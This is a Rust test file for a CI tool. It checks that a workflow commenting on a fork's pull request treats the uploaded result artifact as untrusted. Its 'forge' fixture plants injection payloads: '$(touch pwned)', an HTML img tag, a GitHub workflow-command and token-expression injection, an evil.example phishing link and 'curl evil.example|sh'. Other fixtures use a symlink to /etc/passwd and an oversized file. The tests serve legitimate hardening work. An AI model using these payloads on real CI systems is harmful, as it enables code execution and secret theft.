//! A fork's pull request: its own workflow may not comment. The documented second one does, and trusts nothing in its
//! artifact but numbers.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::action::{BOT, api, outside_code};
use crate::init::{adopted, load_of};
use crate::platform::{Api, Fault};
use crate::recipes::workflow;
use crate::runner::Job;

/// Copies a folder with all that it holds.
fn copy(from: &Path, to: &Path) {
    let copied = Command::new("cp").arg("-r").arg(from).arg(to).status();
    assert!(copied.unwrap().success());
}

/// The first workflow's run.
struct First {
    job: Job,
    /// The first line of the comment that it was refused.
    marker: String,
    /// What it uploaded.
    artifact: PathBuf,
}

impl First {
    /// Of a slower version, with a token that may only read.
    fn run() -> Self {
        let workflow = workflow("baseline-artifact: loadgate-baseline");
        let step = &workflow["jobs"]["performance"]["steps"][1];
        let api = api();
        for _ in 0..6 {
            let refused = Fault::Answers(403, "", "Resource not accessible by integration");
            api.fault("POST", refused);
        }
        let job = Job::new();
        let origin = job.workspace.parent().unwrap().join("origin");
        let base = adopted(&job.workspace, &origin, "", "2");
        let event = json!({ "pull_request": { "number": 7, "head": { "sha": "3f2c9ab0" }, "base": { "sha": base } } });
        let job = job
            .github("job", Value::from("performance"))
            .github("event", event)
            .variable("GITHUB_API_URL", &api.url())
            .variable("GITHUB_WORKFLOW", ".github/workflows/performance.yml")
            .given_by(step, &json!({}))
            .unwrap()
            .replaying(load_of("2"))
            .with("target", "")
            .with("ready", "/prod/catalog/items");
        let acted = job.act();
        assert_eq!(acted.outputs["verdict"], "failed", "{}", acted.log);
        assert!(
            acted.log.contains("the verdict is unchanged"),
            "{}",
            acted.log
        );
        assert!(api.of(BOT).is_empty());
        let calls = api.calls();
        let refused = calls.iter().find(|call| call.method == "POST").unwrap();
        let refused: Value = serde_json::from_str(&refused.body).unwrap();
        let marker = refused["body"].as_str().unwrap().lines().next().unwrap();
        let is_upload = |uses: &str| uses.contains("upload-artifact@");
        let upload = acted.uses.iter().find(|(uses, _)| is_upload(uses));
        let (_, upload) = upload.unwrap();
        assert_eq!(upload["name"], "loadgate-performance-0");
        Self {
            job,
            marker: marker.to_owned(),
            artifact: PathBuf::from(&upload["path"]),
        }
    }
}

/// What sets the second workflow off.
fn completed(event: &str, conclusion: &str) -> Value {
    json!({ "workflow_run": {
        "id": 1842, "run_attempt": 1, "event": event, "conclusion": conclusion, "name": ".github/workflows/performance.yml",
        "pull_requests": [], "head_sha": "3f2c9ab0", "head_branch": "change",
        "head_repository": { "owner": { "login": "stranger" } },
        "html_url": "https://github.com/shop/api/actions/runs/1842",
    }})
}

/// The second workflow's job for pull request 7, in an empty checkout.
pub(crate) fn commenting(api: &Api, job: &Value) -> Job {
    let pulls = "/repos/shop/api/pulls?state=open&per_page=100&head=stranger%3Achange";
    let pull = json!({ "state": "open", "number": 7, "head": { "sha": "3f2c9ab0" } });
    api.answer(pulls, json!([pull]));
    let commenting = Job::new()
        .github("job", Value::from("performance"))
        .github("event_name", Value::from("workflow_run"))
        .github("event", completed("pull_request", "failure"))
        .variable("GITHUB_API_URL", &api.url())
        .variable("GITHUB_WORKFLOW", "performance-comment")
        .given_by(&job["steps"][2], &json!({}))
        .unwrap();
    assert!(commenting.runs(job));
    commenting
}

/// The second workflow.
struct Second {
    job: Value,
    first: First,
}

impl Second {
    fn read(first: First) -> Self {
        let workflow = workflow("workflow_run: {");
        let permissions = workflow["permissions"].as_object().unwrap();
        let writes = permissions.iter().filter(|(_, level)| *level == "write");
        let writes: Vec<&String> = writes.map(|(name, _)| name).collect();
        assert_eq!(writes, ["pull-requests"]);
        let job = workflow["jobs"]["performance"].clone();
        let steps = job["steps"].as_array().unwrap();
        assert_eq!(steps.len(), 3);
        let uses = |step: &Value| step["uses"].as_str().unwrap().to_owned();
        assert!(uses(&steps[0]).starts_with("actions/checkout@"));
        assert!(steps[0]["with"].get("ref").is_none(), "the event's is main");
        assert!(uses(&steps[1]).starts_with("actions/download-artifact@"));
        Self { job, first }
    }

    /// Its job in a checkout of main, with what its download brings.
    fn job(&self, api: &Api, artifact: &Path) -> Job {
        let job = commenting(api, &self.job);
        copy(&self.first.job.workspace.join("thresholds"), &job.workspace);
        let download = job.gives(&self.job["steps"][1]);
        assert_eq!(download["name"], "loadgate-performance-0");
        assert_eq!(download["run-id"], "1842");
        assert!(download["github-token"].starts_with("ghs_"));
        copy(artifact, &job.workspace.join(&download["path"]));
        job
    }

    /// The comment that it makes of an artifact, with what always holds.
    fn tells(&self, artifact: &Path) -> String {
        let api = api();
        let job = self.job(&api, artifact);
        let acted = job.act();
        assert!(acted.is_success, "{}", acted.log);
        assert_eq!(acted.commands, Vec::<String>::new());
        assert!(
            acted.uses.is_empty(),
            "nothing is uploaded: {:?}",
            acted.uses
        );
        assert!(!acted.log.contains("-that-nobody-may-see"));
        assert!(!job.workspace.join("pwned").exists());
        let comments = api.of(BOT);
        assert_eq!(comments.len(), 1, "{}", acted.log);
        comments[0].clone()
    }

    /// The same of an artifact with another result, beside files that main has of its own.
    fn tells_of(&self, write: &dyn Fn(&Path)) -> String {
        let home = tempfile::tempdir().unwrap();
        let folder = home.path().join("artifact");
        copy(&self.first.artifact, &folder);
        std::fs::create_dir_all(folder.join("thresholds/api")).unwrap();
        for (file, text) in [
            ("summary.md", "### ✅ all is well"),
            ("thresholds.yml", "mode: observe"),
            ("thresholds/api/thresholds.yml", "mode: observe"),
        ] {
            std::fs::write(folder.join(file), text).unwrap();
        }
        write(&folder.join("result.json"));
        self.tells(&folder)
    }
}

/// Puts what a stranger likes into a result.
fn forge(result: &Path) {
    let text = std::fs::read_to_string(result).unwrap();
    let mut record: Value = serde_json::from_str(&text).unwrap();
    let name = "--> @everyone `$(touch pwned)` <img src=x>\n::error::forged ${{ github.token }}";
    record["requests"][0] = Value::from(name);
    record["run"]["url"] = Value::from("https://evil.example/login");
    record["run"]["commit"] = Value::from("@everyone");
    record["run"]["proposed"] = Value::from(false);
    record["run"]["given"] = json!(["--target-cmd", "curl evil.example|sh", "--allow-commands"]);
    record["run"]["insecure"] = Value::from(true);
    record["target"]["url"] = Value::from("https://evil.example");
    record["labels"] = json!({ "runner": "$(touch pwned)" });
    std::fs::write(result, record.to_string()).unwrap();
}

/// Leaves the result of another run.
fn stale(result: &Path) {
    let text = std::fs::read_to_string(result).unwrap();
    let text = text.replace("\"github-1842\"", "\"github-1\"");
    std::fs::write(result, text).unwrap();
}

fn link(result: &Path) {
    std::fs::remove_file(result).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", result).unwrap();
}

fn swell(result: &Path) {
    let file = std::fs::File::create(result).unwrap();
    file.set_len(17 << 20).unwrap();
}

#[test]
fn a_second_workflow_reports_on_a_fork_and_distrusts_its_files() {
    let second = Second::read(First::run());
    let comment = second.tells(&second.first.artifact);
    assert!(
        comment.contains("### ❌") && comment.contains("slower"),
        "{comment}"
    );
    assert!(comment.contains("commit `3f2c9ab`"), "{comment}");
    assert!(comment.contains("(https://github.com/shop/api/actions/runs/1842)"));
    let marker = comment.lines().next();
    assert_eq!(
        marker,
        Some(second.first.marker.as_str()),
        "both share one comment"
    );

    let forged = second.tells_of(&forge);
    assert!(
        forged.contains("### ❌") && !forged.contains("evil.example"),
        "{forged}"
    );
    assert!(!forged.contains("Reproduce"), "{forged}");
    let outside = outside_code(&forged);
    assert!(
        !outside.contains('@') && !outside.contains("<img"),
        "{outside}"
    );
    let cut: &dyn Fn(&Path) = &|result| std::fs::write(result, "{").unwrap();
    let none: &dyn Fn(&Path) = &|result| std::fs::remove_file(result).unwrap();
    for (write, why) in [
        (cut, "not a loadgate result"),
        (none, "cannot read"),
        (&stale, "another run"),
        (&swell, "larger than 16 MB"),
        (&link, "is not a file"),
    ] {
        let comment = second.tells_of(write);
        assert!(
            comment.contains("NOT JUDGED") && comment.contains(why),
            "{why}: {comment}"
        );
        assert!(!comment.contains("root:"));
    }

    // A platform that refuses changes nothing, and pull requests alone are told of, where they left an artifact.
    let api = api();
    let refused = Fault::Answers(403, "", "Resource not accessible by integration");
    api.fault("POST", refused);
    let acted = second.job(&api, &second.first.artifact).act();
    assert!(acted.is_success, "{}", acted.log);
    assert!(
        acted.log.contains("the verdict is unchanged"),
        "{}",
        acted.log
    );
    assert!(api.of(BOT).is_empty());
    for (event, conclusion) in [
        ("push", "success"),
        ("pull_request", "cancelled"),
        ("pull_request", "skipped"),
    ] {
        let other = Job::new().github("event", completed(event, conclusion));
        assert!(!other.runs(&second.job), "{event} {conclusion}");
    }
}
